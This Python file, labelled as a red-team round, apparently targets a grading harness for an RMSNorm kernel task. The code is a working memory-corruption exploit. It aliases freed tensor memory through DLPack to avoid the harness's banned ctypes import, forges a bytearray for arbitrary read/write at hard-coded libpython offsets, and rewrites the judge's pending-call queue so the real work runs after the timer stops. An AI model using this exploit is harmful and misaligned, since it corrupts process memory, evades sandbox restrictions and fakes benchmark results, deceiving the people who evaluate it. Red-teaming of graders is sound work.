# Red team round 20a: raw memory without ctypes (round 9's DLPack alias over a tensor grown by
# resize_, still open: no refused name), used for round 18's payload (the judge's own no-op entry
# at the head of the main interpreter's pending-call queue rewritten to
# PyObject_CallNoArgs(payload)): the work runs on the main thread after the clock, within the
# main thread's 1 ms + 25% CPU bound. Offsets: libpython3.11.so.1.0 (3.11.7).
import functools
import operator

import torch
import cutlass  # noqa: F401

KEEP = []
MEM = bytearray(64)
N = 1 << 13
_LIB = id(int) - 0x457CE0  # &PyLong_Type
_CALLNOARGS = _LIB + 0x158A80  # PyObject_CallNoArgs
_CALLS = _LIB + 0x54E540 + 0xE6B8  # _PyRuntime...ceval.pending.calls
_READY = []


def _window():
    t = torch.zeros(N, dtype=torch.int64)
    w = torch.from_dlpack(t)
    t.resize_(N * 16)
    KEEP.append((t, w))
    return w


def _open():
    w = _window()
    spray = [torch.full((8,), 0x41, dtype=torch.int64) for _ in range(256)]
    KEEP.append(spray)
    ptrs = {s.data_ptr(): s for s in spray}
    win = w.clone().tolist()
    for j in range(N - 8):
        vic = ptrs.get(win[j])
        if vic is not None and win[j + 4] == 64 and win[j + 2] == win[j]:
            break
    else:
        return False
    delta = torch.zeros(N, dtype=torch.int64)
    delta[j] = id(MEM) - win[j]
    delta[j + 4] = (1 << 40) - 64
    w.add_(delta)
    vic[5] = 0  # ob_start
    vic[2] = (1 << 62) - 64  # ob_size
    return True


def _rd4(addr):
    return int.from_bytes(MEM[addr : addr + 4], "little")


def _wr(addr, value):
    MEM[addr : addr + 8] = value.to_bytes(8, "little")


def solve(hidden_states, residual, weight):
    if not _READY:
        if not any(_open() for _ in range(16)):
            raise RuntimeError("no window")
        _READY.append(1)
    out = torch.empty_like(hidden_states)
    s = torch.empty(hidden_states.shape, dtype=torch.float32)
    m = torch.empty((hidden_states.shape[0], 1), dtype=torch.float32)
    steps = [
        functools.partial(s.copy_, hidden_states),
        functools.partial(s.add_, residual),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(m.mul_, hidden_states.shape[-1] ** -0.5),
        functools.partial(m.square_),
        functools.partial(m.add_, 1e-5),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(s.mul_, weight),
        functools.partial(out.copy_, s),
    ]
    payload = functools.partial(operator.countOf, map(id, map(operator.call, steps)), -1)
    _P[:] = [payload, steps]
    i = _rd4(_CALLS + 512)  # pending.first: one of the judge's no-ops
    _wr(_CALLS + 16 * i + 8, id(payload))
    _wr(_CALLS + 16 * i, _CALLNOARGS)
    return out


_P = []
